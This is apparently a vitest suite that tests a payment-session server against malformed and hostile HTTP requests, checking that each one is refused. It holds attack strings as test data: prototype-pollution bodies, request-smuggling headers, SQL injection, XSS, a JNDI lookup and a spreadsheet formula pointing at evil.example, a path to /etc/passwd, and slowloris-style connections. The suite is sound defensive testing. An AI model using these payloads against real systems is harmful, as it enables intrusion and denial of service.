/** Requests as no page of ours would send them: odd bodies, headers and methods, and broken HTTP. */
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import { connect, type AddressInfo, type Socket } from 'node:net'
import { gzipSync } from 'node:zlib'
import { afterEach, describe, expect, it, onTestFinished, vi } from 'vitest'
import type { Coinslot } from '../../server/coinslot.ts'
import { createHttpServer, type HttpLimits } from '../../server/http-server.ts'
import { ConfigurationError, parseConfig } from '../../server/config.ts'
import { createNodeHandler } from '../../server/node-handler.ts'
import {
  type Harness,
  newKey,
  readProblem,
  readSession,
  startCoinslot,
} from './coinslot-harness.ts'

const DONATION = { checkout: 'donation', amount: '25.00' }
const MAX_BYTES = 16_384

async function expectRefusal(
  { sent }: Harness,
  answer: Response,
  status: number,
  code: string,
): Promise<Record<string, unknown>> {
  const problem = await readProblem(answer)
  expect({ status: answer.status, code: problem['code'] }).toEqual({ status, code })
  expect(answer.headers.get('Content-Type')).toBe('application/problem+json')
  expect(answer.headers.get('X-Content-Type-Options')).toBe('nosniff')
  expect(sent).toEqual([])
  return problem
}

describe('a body', () => {
  it.each([
    ['the amount', '{"checkout":"donation","amount":"10","amount":"5"}'],
    ['the checkout', '{"checkout":"donation","checkout":"mug"}'],
    ['a key in another spelling', '{"checkout":"donation","amount":"10","\\u0061mount":"5"}'],
    ['a key of a nested object', '{"checkout":"donation","customer":{"email":"a@b.co","email":1}}'],
    ['a key, with the same value', '{"checkout":"donation","amount":"10","amount":"10"}'],
  ])('that names %s twice is refused', async (_, raw) => {
    const harness = await startCoinslot()
    const answer = await harness.request('POST', '/v1/sessions', { raw })
    await expectRefusal(harness, answer, 400, 'invalid_request')
  })

  it.each([
    '{"checkout":"donation","__proto__":{"minAmount":"0"}}',
    '{"checkout":"donation","__proto__":null}',
    '{"__proto__":{"checkout":"donation","amount":"25.00"}}',
    '{"checkout":"donation","\\u005f_proto__":{"editable":true}}',
    '{"checkout":"donation","constructor":{"prototype":{"minAmount":"0"}}}',
    '{"checkout":"donation","prototype":{}}',
    '{"checkout":"donation","customer":{"__proto__":{"email":"a@b.co"}}}',
    '{"checkout":"donation","toString":"x","hasOwnProperty":"y"}',
  ])('that reaches for a prototype is refused: %s', async (raw) => {
    const harness = await startCoinslot()
    const answer = await harness.request('POST', '/v1/sessions', { raw })
    await expectRefusal(harness, answer, 400, 'invalid_request')
    expect({}).not.toHaveProperty('minAmount')
    expect({}).not.toHaveProperty('editable')
  })

  it.each([
    ['currency', 'JPY'],
    ['minAmount', '0.01'],
    ['maxAmount', '9999999'],
    ['editable', true],
    ['orderType', 'STATIC'],
    ['paymentTolerance', 99],
    ['callbackUrl', 'https://evil.example'],
    ['successUrl', 'https://evil.example'],
    ['cancelUrl', 'https://evil.example'],
    ['redirectUrl', 'https://evil.example'],
    ['refundAddress', '0x00'],
    ['status', 'paid'],
    ['merchantId', 'm_2'],
    ['provider', 'sprintcheckout'],
    ['orderId', 'A-1'],
    ['id', 'cs_mine'],
    ['test', true],
    ['metadata', {}],
    ['expiresIn', 31_536_000],
    ['Amount', '5.00'],
    ['', ''],
  ])('cannot set %s', async (key, value) => {
    const harness = await startCoinslot()
    const answer = await harness.createSession({ ...DONATION, [key]: value })
    await expectRefusal(harness, answer, 400, 'invalid_request')
  })

  it.each([
    ['null', 'null'],
    ['a number', '1'],
    ['a string', '"x"'],
    ['an array', '[]'],
    ['an array of what is asked for', '[{"checkout":"donation"}]'],
    ['an empty object', '{}'],
    ['nothing', ''],
    ['white space', '  \n'],
    ['a byte order mark first', '\ufeff{"checkout":"donation"}'],
    ['something behind', '{"checkout":"donation"}x'],
    ['two values', '{"checkout":"donation"}{"checkout":"donation"}'],
    ['a comment', '{"checkout":"donation"/**/}'],
    ['a trailing comma', '{"checkout":"donation",}'],
    ['single quotes', "{'checkout':'donation'}"],
    ['a bare control character', '{"checkout":"donation\n"}'],
    ['thousands of open brackets', '['.repeat(MAX_BYTES)],
    ['thousands of brackets', '['.repeat(MAX_BYTES / 2) + ']'.repeat(MAX_BYTES / 2)],
    ['thousands of objects in one another', '{"a":'.repeat(2_500) + '1' + '}'.repeat(2_500)],
    ['a form', 'checkout=donation&amount=25.00'],
    ['XML', '<?xml version="1.0"?><checkout>donation</checkout>'],
  ])('that is not the JSON asked for is refused: %s', async (_, raw) => {
    const harness = await startCoinslot()
    const answer = await harness.request('POST', '/v1/sessions', { raw })
    await expectRefusal(harness, answer, 400, 'invalid_request')
  })

  it.each([
    ['a lone continuation byte', [0x80]],
    ['an overlong slash', [0xc0, 0xaf]],
    ['a surrogate', [0xed, 0xa0, 0x80]],
    ['a character that is cut off', [0xe2, 0x82]],
    ['Latin-1', [0xfc]],
  ])('that is not UTF-8 is refused: %s', async (_, bytes) => {
    const harness = await startCoinslot()
    const [before, after] = ['{"checkout":"donation","clientReferenceId":"A', '"}']
    const raw = Buffer.concat([Buffer.from(before), Buffer.from(bytes), Buffer.from(after)])
    const answer = await harness.request('POST', '/v1/sessions', { raw })
    await expectRefusal(harness, answer, 400, 'invalid_request')
  })

  it.each([
    ['UTF-16', Buffer.from('{"checkout":"donation"}', 'utf16le')],
    ['UTF-16 that says so', Buffer.from('\ufeff{"checkout":"donation"}', 'utf16le')],
    ['gzip', gzipSync('{"checkout":"donation"}')],
  ])('that is in another form than it says is refused: %s', async (_, raw) => {
    const harness = await startCoinslot()
    const answer = await harness.request('POST', '/v1/sessions', { raw })
    await expectRefusal(harness, answer, 400, 'invalid_request')
  })

  it('with several problems is refused with the path of each', async () => {
    const harness = await startCoinslot()
    const body = { amount: 1, locale: '\n', clientReferenceId: '', customer: { email: 'x', a: 1 } }
    const problem = await expectRefusal(
      harness,
      await harness.createSession(body),
      400,
      'invalid_request',
    )
    const paths = (problem['errors'] as { path: string }[]).map(({ path }) => path)
    expect(new Set(paths)).toEqual(
      new Set(['amount', 'clientReferenceId', 'customer', 'customer.email', 'locale']),
    )
  })

  it.each([
    ['of 16,385 bytes', MAX_BYTES + 1],
    ['of 1 MB', 1_000_000],
  ])('%s is refused as too large', async (_, bytes) => {
    const harness = await startCoinslot()
    const answer = await harness.request('POST', '/v1/sessions', { raw: padded(bytes) })
    await expectRefusal(harness, answer, 413, 'payload_too_large')
  })

  it('of 16,384 bytes is read', async () => {
    const { request } = await startCoinslot()
    const answer = await request('POST', '/v1/sessions', { raw: padded(MAX_BYTES) })
    expect(answer.status).toBe(201)
  })
})

describe('a content type', () => {
  it.each([
    null,
    '',
    'text/plain',
    'text/plain; application/json',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'text/json',
    'application/jsonp',
    'application/problem+json',
    'application/json, text/plain',
    'application/json; charset=utf-16',
    'application/json; charset=utf-7',
    'application/json; charset=utf-8; boundary=x',
  ])('that is not JSON in UTF-8 is refused: %s', async (type) => {
    const harness = await startCoinslot()
    const answer = await harness.request('POST', '/v1/sessions', {
      // Bytes, because a string would bring a type of its own.
      raw: new TextEncoder().encode(JSON.stringify(DONATION)),
      headers: { 'Content-Type': type },
    })
    await expectRefusal(harness, answer, 415, 'unsupported_media_type')
  })

  it.each(['gzip', 'br', 'deflate', 'gzip, identity', 'x'])(
    'that is compressed is refused: %s',
    async (encoding) => {
      const harness = await startCoinslot()
      const answer = await harness.createSession(DONATION, { 'Content-Encoding': encoding })
      await expectRefusal(harness, answer, 415, 'unsupported_media_type')
    },
  )

  it.each([
    'application/json',
    'application/json;charset=utf-8',
    'application/json; charset="UTF-8"',
    'Application/JSON',
  ])('of JSON is taken as %s', async (type) => {
    const { createSession } = await startCoinslot()
    const answer = await createSession(DONATION, { 'Content-Type': type })
    expect(answer.status).toBe(201)
  })
})

describe('an Idempotency-Key', () => {
  it('that is missing is refused', async () => {
    const harness = await startCoinslot()
    const answer = await harness.createSession(DONATION, { 'Idempotency-Key': null })
    await expectRefusal(harness, answer, 400, 'idempotency_key_missing')
  })

  it.each([
    ['empty', ''],
    ['one character', 'a'],
    ['15 characters', 'a'.repeat(15)],
    ['256 characters', 'a'.repeat(256)],
    ['two headers', `${'a'.repeat(16)}, ${'b'.repeat(16)}`],
    ['two equal headers', `${'a'.repeat(16)}, ${'a'.repeat(16)}`],
    ['Latin-1', `é${'a'.repeat(16)}`],
    ['UTF-8 read as Latin-1', Buffer.from(`ключ${'a'.repeat(16)}`).toString('latin1')],
    ['SQL', "' OR 1=1;--'; DROP TABLE intents"],
    ['a path', '../../../../etc/passwd'],
    ['a space inside', 'aaaaaaaa aaaaaaaa'],
    ['an opening quote only', `"${'a'.repeat(16)}`],
    ['a closing quote only', `${'a'.repeat(16)}"`],
    ['single quotes', `'${'a'.repeat(16)}'`],
    ['double quotes twice', `""${'a'.repeat(16)}""`],
    ['too short between quotes', `"${'a'.repeat(14)}"`],
  ])('of another form is refused: %s', async (_, key) => {
    const harness = await startCoinslot()
    const answer = await harness.createSession(DONATION, { 'Idempotency-Key': key })
    await expectRefusal(harness, answer, 400, 'idempotency_key_invalid')
  })

  it.each([16, 255])('of %i characters is taken', async (length) => {
    const { createSession } = await startCoinslot()
    const answer = await createSession(DONATION, { 'Idempotency-Key': 'a'.repeat(length) })
    expect(answer.status).toBe(201)
  })
})

describe('a currency', () => {
  it.each([
    'usd',
    'Usd',
    'USDT',
    'XXX',
    'XTS',
    'XAU',
    'U\u015eD',
    'US\u0130',
    'BTC',
    'US',
    '',
    '840',
  ])('that money is not paid in stops the start: %s', (currency) => {
    const checkouts = { donation: { provider: 'sandbox', currency, amount: '25' } }
    const problems = problemsOf({ providers: { sandbox: {} }, checkouts })
    expect(problems).toEqual([expect.stringMatching(/^checkouts\.donation\.currency: /)])
  })
})

describe('a client reference', () => {
  it.each([
    ['a line break', 'A-1\r\nSet-Cookie: a=b'],
    ['a lone line feed', 'A-1\n{"level":60}'],
    ['NUL', 'A-1\0'],
    ['an escape sequence', 'A-1\u001b[2J'],
    ['a C1 control', 'A-1\u0085'],
    ['a lone surrogate', 'A-1\ud800'],
    ['10 kB', 'A'.repeat(10_000)],
    ['nothing', ''],
  ])('with %s is refused', async (_, clientReferenceId) => {
    const harness = await startCoinslot()
    const answer = await harness.createSession({ ...DONATION, clientReferenceId })
    const problem = await expectRefusal(harness, answer, 400, 'invalid_request')
    expect(problem['errors']).toContainEqual(expect.objectContaining({ path: 'clientReferenceId' }))
  })

  it.each([
    '${jndi:ldap://evil.example/a}',
    '<img src=x onerror=alert(1)>',
    '=HYPERLINK("https://evil.example")',
    "'; DROP TABLE sessions; --",
    '%s%n {{7*7}} #{7*7}',
    '\u202eA-1',
    'e\u0301',
    '\u00e9',
  ])('is kept as it was written, and stays out of the log: %s', async (clientReferenceId) => {
    const { createSession, request, logs } = await startCoinslot()
    const { id } = await readSession(await createSession({ ...DONATION, clientReferenceId }))
    const answer = await request('GET', `/v1/sessions/${id}`)
    expect(answer.headers.get('Content-Type')).toBe('application/json')
    expect(answer.headers.get('X-Content-Type-Options')).toBe('nosniff')
    expect(await readSession(answer)).toMatchObject({ clientReferenceId })
    expect(logs.filter((line) => line.includes(clientReferenceId))).toEqual([])
    for (const line of logs) expect(line).toMatch(/^\{.*\}\n$/)
  })
})

describe('a session’s id', () => {
  it.each([
    'cs_',
    'cs_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
    "cs_' OR '1'='1",
    '..%2f..%2fhealthz',
    '%00',
    '%E0%A4%A',
    '__proto__',
    'a'.repeat(8_000),
  ])('that is not one is not found: %.40s', async (id) => {
    const harness = await startCoinslot()
    const read = await harness.request('GET', `/v1/sessions/${id}`)
    await expectRefusal(harness, read, 404, 'session_not_found')
    const change = await harness.request('PATCH', `/v1/sessions/${id}`, { body: { amount: '9' } })
    await expectRefusal(harness, change, 404, 'session_not_found')
  })

  it.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'Donation', 'donation '])(
    'of a checkout that is not configured is not found: %s',
    async (checkout) => {
      const harness = await startCoinslot()
      const answer = await harness.createSession({ checkout })
      await expectRefusal(harness, answer, 404, 'checkout_not_found')
      const terms = await harness.request('GET', `/v1/checkouts/${encodeURIComponent(checkout)}`)
      await expectRefusal(harness, terms, 404, 'checkout_not_found')
    },
  )
})

describe('a method', () => {
  it.each([
    ['PUT', '/v1/sessions', 'POST'],
    ['DELETE', '/v1/sessions', 'POST'],
    ['GET', '/v1/sessions', 'POST'],
    ['PUT', '/v1/sessions/cs_1', 'PATCH'],
    ['DELETE', '/v1/sessions/cs_1', 'PATCH'],
    ['POST', '/v1/sessions/cs_1', 'PATCH'],
    ['POST', '/v1/checkouts/donation', 'GET'],
    ['GET', '/v1/webhooks/sandbox', 'POST'],
    ['PROPFIND', '/v1/sessions', 'POST'],
  ])('%s %s is refused, and told what is taken', async (method, path, allowed) => {
    const harness = await startCoinslot()
    const answer = await harness.request(method, path)
    await expectRefusal(harness, answer, 405, 'method_not_allowed')
    expect(answer.headers.get('Allow')).toContain(allowed)
  })

  it.each(['X-HTTP-Method-Override', 'X-HTTP-Method', 'X-Method-Override'])(
    'is not what %s says',
    async (header) => {
      const { createSession, request, sent } = await startCoinslot()
      const { id } = await readSession(await createSession(DONATION))
      const before = sent.length
      const headers = { [header]: 'PATCH' }
      const read = await request('GET', `/v1/sessions/${id}`, { headers })
      expect(await readSession(read)).toMatchObject({ amount: '25.00' })
      const post = await request('POST', `/v1/sessions/${id}`, {
        body: { amount: '9.00' },
        headers,
      })
      expect(post.status).toBe(405)
      expect(sent.length).toBe(before)
    },
  )

  it('is not what the query says', async () => {
    const harness = await startCoinslot()
    const answer = await harness.request('GET', '/v1/sessions?_method=POST&checkout=donation')
    await expectRefusal(harness, answer, 405, 'method_not_allowed')
  })
})

describe('the sandbox, which anyone can reach', () => {
  const FORM = 'application/x-www-form-urlencoded'

  it.each([null, 'Bearer', 'Bearer wrong', 'Bearer whsec_', 'Basic d3JvbmcK', 'x'])(
    'keeps its API to those who know the key: %s',
    async (Authorization) => {
      const { request, logs } = await startCoinslot()
      const headers = { Authorization }
      const answers = [
        await request('GET', '/sandbox/v1/payments/sbx_1', { headers }),
        await request('POST', '/sandbox/v1/payments', { headers, body: {} }),
        await request('PATCH', '/sandbox/v1/payments/sbx_1', { headers, body: {} }),
      ]
      for (const { status } of answers) expect([400, 401]).toContain(status)
      expect(logs.filter((line) => line.includes('"level":50'))).toEqual([])
    },
  )

  it.each([
    ['a body over the limit', FORM, `outcome=paid&x=${'a'.repeat(MAX_BYTES)}`, 413],
    ['a broken multipart body', 'multipart/form-data; boundary=x', 'outcome=paid', 303],
    ['another outcome', FORM, 'outcome=settled', 303],
    ['two outcomes', FORM, 'outcome[]=paid&outcome[]=declined', 303],
    ['JSON', 'application/json', '{"outcome":"paid"}', 303],
  ])('ends no payment by %s', async (_, type, raw, status) => {
    const { createSession, request, sent, logs } = await startCoinslot()
    const { id, redirectUrl = '' } = await readSession(await createSession(DONATION))
    const before = sent.length
    const { pathname } = new URL(redirectUrl)
    const answer = await request('POST', pathname, { raw, headers: { 'Content-Type': type } })
    expect(answer.status).toBe(status)
    expect(await readSession(await request('GET', `/v1/sessions/${id}`))).toMatchObject({
      status: 'pending',
    })
    expect(sent.length).toBe(before)
    expect(logs.filter((line) => line.includes('"level":50'))).toEqual([])
  })
})

describe('HTTP on a real socket', () => {
  const closing: (() => Promise<void>)[] = []
  afterEach(async () => {
    for (const close of closing.splice(0)) await close()
  })

  /** Serves as `main` does. */
  async function listen(limits: Partial<HttpLimits> = {}) {
    const harness = await startCoinslot()
    const server = createHttpServer(harness.coinslot.fetch, limits)
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const { port } = server.address() as AddressInfo
    closing.push(async () => {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
      await harness.coinslot.close()
    })

    /** What comes back on the wire; hangs up when something was answered, or, if told so, at once. */
    const exchange = (text: string, { hangUp = false } = {}): Promise<string> =>
      new Promise((resolve) => {
        let received = ''
        const socket = connect(port, '127.0.0.1', () => socket.write(text))
        if (hangUp) socket.end()
        socket.on('data', (bytes) => {
          received += bytes.toString('latin1')
          socket.end()
        })
        // Cut off by the server, as it may: what was received counts.
        socket.on('error', () => undefined)
        socket.on('close', () => resolve(received))
      })
    return { ...harness, exchange }
  }

  function post(headers: readonly string[], body: string): string {
    const lines = [
      'POST /v1/sessions HTTP/1.1',
      'Host: localhost:8080',
      'Content-Type: application/json',
      `Idempotency-Key: ${newKey()}`,
      ...headers,
    ]
    return `${lines.join('\r\n')}\r\n\r\n${body}`
  }

  const body = JSON.stringify(DONATION)
  const exactly = `Content-Length: ${body.length}`
  const inChunks = (text: string, size: number) =>
    (text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [])
      .map((chunk) => `${chunk.length.toString(16)}\r\n${chunk}\r\n`)
      .join('')

  it('is answered, so that the refusals below mean something', async () => {
    const { exchange, sent } = await listen()
    expect(statuses(await exchange(post([exactly, 'Connection: close'], body)))).toEqual([201])
    const chunked = post(
      ['Transfer-Encoding: chunked', 'Connection: close'],
      `${inChunks(body, 5)}0\r\n\r\n`,
    )
    expect(statuses(await exchange(chunked))).toEqual([201])
    expect(sent).toHaveLength(2)
  })

  it.each([
    ['too short: the rest is no request', [`Content-Length: ${body.length - 5}`], [400]],
    ['negative', ['Content-Length: -1'], [400]],
    ['not a number', ['Content-Length: 0x10'], [400]],
    ['a list', [`Content-Length: ${body.length}, ${body.length}`], [400]],
    ['there twice', [exactly, 'Content-Length: 1'], [400]],
    ['beside Transfer-Encoding', [exactly, 'Transfer-Encoding: chunked'], [400]],
    ['beside a hidden Transfer-Encoding', [exactly, 'Transfer-Encoding : chunked'], [400]],
    ['zero, and the body a request of its own', ['Content-Length: 0'], [400]],
  ])('with a Content-Length that is %s opens no session', async (_, headers, expected) => {
    const { exchange, sent } = await listen()
    const answered = statuses(await exchange(post(headers, body)))
    expect([...new Set(answered)]).toEqual(expected)
    expect(sent).toEqual([])
  })

  it('with a Content-Length that is never reached opens no session', async () => {
    const { exchange, sent } = await listen()
    const answered = statuses(
      await exchange(post(['Content-Length: 16000'], body), { hangUp: true }),
    )
    expect(answered.filter((status) => status < 400)).toEqual([])
    expect(sent).toEqual([])
  })

  it('with a Content-Length over the limit is refused before the body has come', async () => {
    const { exchange, sent } = await listen()
    const received = await exchange(post(['Content-Length: 100000000'], body))
    expect(statuses(received)).toEqual([413])
    expect(received).toContain('payload_too_large')
    expect(sent).toEqual([])
  })

  it('in chunks without an end is refused as soon as they are over the limit', async () => {
    const { exchange, sent } = await listen()
    const endless = inChunks(padded(MAX_BYTES + 1_000), 1_000)
    const received = await exchange(post(['Transfer-Encoding: chunked'], endless))
    expect(statuses(received)).toEqual([413])
    expect(sent).toEqual([])
  })

  it.each([
    ['lies about their length', `5\r\n${body}\r\n0\r\n\r\n`],
    ['gives their length in words', `five\r\n${body}\r\n0\r\n\r\n`],
    ['overflows their length', `ffffffffffffffffff\r\n${body}\r\n0\r\n\r\n`],
  ])('in chunks that %s opens no session', async (_, chunks) => {
    const { exchange, sent } = await listen()
    const answered = statuses(await exchange(post(['Transfer-Encoding: chunked'], chunks)))
    expect(answered.filter((status) => status < 400)).toEqual([])
    expect(sent).toEqual([])
  })

  it('with headers over 16 kB is refused', async () => {
    const { exchange, sent } = await listen()
    const many = Array.from({ length: 1_000 }, (_, n) => `X-Header-${n}: ${'a'.repeat(10)}`)
    expect(statuses(await exchange(post([...many, exactly], body)))).toEqual([431])
    expect(statuses(await exchange(post([`X-Long: ${'a'.repeat(20_000)}`], body)))).toEqual([431])
    expect(sent).toEqual([])
  })

  it('with a thousand small headers is answered as without them', async () => {
    const { exchange } = await listen()
    const many = Array.from({ length: 1_000 }, (_, n) => `X-${n}: a`)
    const request = post([...many, exactly, 'Connection: close'], body)
    expect(statuses(await exchange(request))).toEqual([201])
  })

  it('behind thousands of small headers is seen as without them', async () => {
    const { exchange, sent } = await listen()
    const many = Array<string>(2_500).fill('a:')
    const foreign = [...many, 'Origin: https://evil.example', exactly, 'Connection: close']
    expect(statuses(await exchange(post(foreign, body)))).toEqual([403])
    expect(sent).toEqual([])
  })

  it('of an origin as long as headers may be leaves a short line in the log', async () => {
    const { exchange, logs } = await listen()
    const origin = `Origin: https://${'a'.repeat(15_000)}`
    expect(statuses(await exchange(post([origin, exactly, 'Connection: close'], body)))).toEqual([
      403,
    ])
    expect(logs.filter((line) => line.length > 1_000)).toEqual([])
  })

  it.each([
    ['a bare line feed in a header', 'X-A: b\nOrigin: https://shop.example'],
    ['NUL in a header', 'X-A: \0'],
    ['a header that is folded', 'X-A: b\r\n c'],
  ])('with %s is refused', async (_, header) => {
    const { exchange, sent } = await listen()
    const [status] = statuses(await exchange(post([header, 'Content-Length: 2'], '{}')))
    expect(status).toBe(400)
    expect(sent).toEqual([])
  })

  it.each(['TRACE', 'PUT', 'DELETE'])('%s is refused and echoes nothing', async (method) => {
    const { exchange, sent } = await listen()
    const received = await exchange(
      `${method} /v1/sessions HTTP/1.1\r\nHost: localhost:8080\r\nX-Secret: canary-7\r\nConnection: close\r\n\r\n`,
    )
    expect(statuses(received)).toEqual([405])
    expect(received).not.toContain('canary-7')
    expect(sent).toEqual([])
  })

  it.each(['/v1/sessions', '/v1/webhooks/sandbox', '/pay/donation', '/sandbox/pay/x', '/healthz'])(
    'to an address that names a user finds nothing: %s',
    async (path) => {
      const { exchange, logs } = await listen()
      const received = await exchange(
        `POST http://a:b@localhost${path} HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n` +
          'Connection: close\r\n\r\n2\r\n{}\r\n0\r\n\r\n',
      )
      expect(statuses(received).map((status) => [404, 405].includes(status))).toEqual([true])
      expect(logs.filter((line) => line.includes('"level":50'))).toEqual([])
    },
  )

  it('CONNECT opens no tunnel', async () => {
    const { exchange, sent } = await listen()
    const received = await exchange(
      'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n',
    )
    expect(statuses(received).filter((status) => status < 400)).toEqual([])
    expect(sent).toEqual([])
  })

  it.each([
    '',
    'Host: \r\n',
    'Host: a b\r\n',
    'Host: [\r\n',
    'Host: a/b@c\r\n',
    'Host: a\r\nHost: b\r\n',
  ])('with the host header %j is refused or answered, never a failure of ours', async (host) => {
    const { exchange, logs } = await listen()
    const received = await exchange(`GET /healthz HTTP/1.1\r\n${host}Connection: close\r\n\r\n`)
    expect(statuses(received).map((status) => [200, 400].includes(status))).toEqual([true])
    expect(logs.filter((line) => line.includes('"level":50'))).toEqual([])
  })
})

/** Time is real here, because it is Node's own server that measures it. */
describe('connections that are held on purpose', () => {
  const QUICK = { headersTimeout: 100, requestTimeout: 200, connectionsCheckingInterval: 20 }

  async function serve(limits: Partial<HttpLimits>) {
    const harness = await startCoinslot()
    const server = createHttpServer(harness.coinslot.fetch, limits).listen(0, '127.0.0.1')
    await once(server, 'listening')
    const { port } = server.address() as AddressInfo
    onTestFinished(async () => {
      server.closeAllConnections()
      server.close()
      await harness.coinslot.close()
    })
    /** One that sends this and then waits. */
    const hold = async (text: string, localAddress = '127.0.0.1') => {
      const socket = connect({ port, host: '127.0.0.1', localAddress })
      const held = { socket, received: '', isOpen: true }
      socket.on('data', (bytes) => (held.received += bytes.toString('latin1')))
      socket.on('error', () => undefined)
      socket.on('close', () => (held.isOpen = false))
      await once(socket, 'connect')
      socket.write(text)
      return held
    }
    return { ...harness, server, port, hold, url: `http://127.0.0.1:${port}` }
  }

  const HEADERS = 'POST /v1/sessions HTTP/1.1\r\nHost: localhost\r\n'
  const ASK = 'GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n'

  it.each([
    ['headers', HEADERS],
    ['a body', `${HEADERS}Content-Length: 100\r\n\r\n{`],
    ['chunks', `${HEADERS}Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n`],
  ])('by %s that never end are cut off, however steadily a byte comes', async (_, text) => {
    const { hold, sent } = await serve(QUICK)
    const held = await hold(text)
    const trickle = setInterval(() => held.socket.write('a'), 10)
    await once(held.socket, 'close')
    clearInterval(trickle)
    expect(statuses(held.received).filter((status) => status < 400)).toEqual([])
    expect(sent).toEqual([])
  })

  it('by silence are cut off', async () => {
    const { hold } = await serve({ silence: 100 })
    const held = await hold('')
    await once(held.socket, 'close')
    expect(held.received).toBe('')
  })

  it('are limited in their number', async () => {
    const { hold, server } = await serve({ maxConnections: 3 })
    for (let count = 0; count < 3; count += 1) await hold(HEADERS)
    const [dropped, fourth] = [once(server, 'drop'), await hold(HEADERS)]
    await dropped
    if (fourth.isOpen) await once(fourth.socket, 'close')
    expect(fourth.received).toBe('')
  })

  it('are limited in their number for each address, so that others have theirs', async () => {
    const { hold } = await serve({ maxConnectionsPerAddress: 2 })
    const isAnswered = async (held: Awaited<ReturnType<typeof hold>>) => {
      await Promise.race([once(held.socket, 'data'), once(held.socket, 'close')])
      return held.received.startsWith('HTTP/1.1 200')
    }
    const [first] = [await hold(HEADERS), await hold(HEADERS)]
    expect(await isAnswered(await hold(ASK))).toBe(false)
    expect(await isAnswered(await hold(ASK, '127.0.0.2'))).toBe(true)
    first.socket.destroy()
    await vi.waitFor(async () => expect(await isAnswered(await hold(ASK))).toBe(true))
  })

  it('with more requests at once than anybody sends are ended, and the rest of these is not looked at', async () => {
    const { hold, logs } = await serve({})
    const held = await hold(ASK.repeat(1000))
    if (held.isOpen) await once(held.socket, 'close')
    const isRequest = (line: string) => line.includes('"route":"/healthz"')
    expect(logs.filter(isRequest).length).toBeLessThanOrEqual(16)
  })

  it('with some requests at once, and as many again after the answers, are answered each time', async () => {
    const { hold } = await serve({})
    const held = await hold('')
    for (let round = 1; round <= 3; round += 1) {
      held.socket.write(ASK.repeat(16))
      await vi.waitFor(() =>
        expect(held.received.match(/HTTP\/1\.1 200 /g)?.length).toBe(16 * round),
      )
    }
    expect(held.isOpen).toBe(true)
  })

  it('take their places in event streams with them, also of those that waited for their turn', async () => {
    const { hold, createSession, url } = await serve({})
    const { id } = await readSession(await createSession(DONATION))
    const path = `/v1/sessions/${id}/events`
    // Of one address a hundred may follow.
    for (let connections = 0; connections < 7; connections += 1) {
      const held = await hold(`GET ${path} HTTP/1.1\r\nHost: localhost\r\n\r\n`.repeat(16))
      await once(held.socket, 'data')
      held.socket.destroy()
    }
    const follow = async () => {
      const { status, body } = await fetch(url + path)
      await body?.cancel()
      return status
    }
    await vi.waitFor(
      async () => {
        const followers = await Promise.all(Array.from({ length: 90 }, follow))
        expect(followers.filter((status) => status !== 200)).toEqual([])
      },
      { timeout: 20_000 },
    )
  })

  it.each<[string, (fetch: Coinslot['fetch']) => Server]>([
    ['this server', (fetch) => createHttpServer(fetch)],
    ['a server of the merchant’s', (fetch) => createServer(createNodeHandler(fetch))],
    [
      'a server of the merchant’s, which asks something else first,',
      (fetch) => {
        const handler = createNodeHandler(fetch)
        return createServer((incoming, outgoing) => {
          if (incoming.socket.destroyed) void handler(incoming, outgoing)
          else incoming.socket.once('close', () => void handler(incoming, outgoing))
        })
      },
    ],
  ])('take with them what %s answers after they have ended, too', async (_, create) => {
    let answer: () => void = () => undefined
    const isAnswered = new Promise<void>((resolve) => (answer = resolve))
    let [asked, ended] = [0, 0]
    const server = create(async () => {
      await isAnswered
      return new Response(new ReadableStream({ cancel: () => void (ended += 1) }))
    })
    server.on('request', () => (asked += 1))
    onTestFinished(() => void server.close())
    await once(server.listen(0, '127.0.0.1'), 'listening')
    const { port } = server.address() as AddressInfo
    const connected = once(server, 'connection')
    const socket = connect({ port, host: '127.0.0.1' })
    socket.write(ASK.repeat(16))
    const [connection] = (await connected) as [Socket]
    await vi.waitFor(() => expect(asked).toBe(16))
    socket.destroy()
    await once(connection, 'close')
    answer()
    await vi.waitFor(() => expect(ended).toBe(16))
  })

  it('five hundred at once keep nobody else waiting', async () => {
    const { hold, url } = await serve({})
    const before = process.memoryUsage().rss
    await Promise.all(Array.from({ length: 500 }, () => hold(HEADERS)))
    const times: number[] = []
    for (let count = 0; count < 100; count += 1) {
      const since = performance.now()
      expect((await fetch(`${url}/healthz`)).status).toBe(200)
      times.push(performance.now() - since)
    }
    expect(times.toSorted((a, b) => a - b)[98]).toBeLessThan(250)
    expect(process.memoryUsage().rss - before).toBeLessThan(50e6)
  })
})

/** A body that opens a session and has this many bytes. */
function padded(bytes: number): string {
  const text = JSON.stringify(DONATION)
  return text + ' '.repeat(bytes - text.length)
}

/** The status of each answer on a connection. */
function statuses(received: string): number[] {
  return [...received.matchAll(/^HTTP\/1\.1 (\d{3}) /gm)].map(([, status]) => Number(status))
}

function problemsOf(configuration: unknown): readonly string[] {
  try {
    parseConfig(configuration, {})
    return []
  } catch (error) {
    if (error instanceof ConfigurationError) return error.problems
    throw error
  }
}
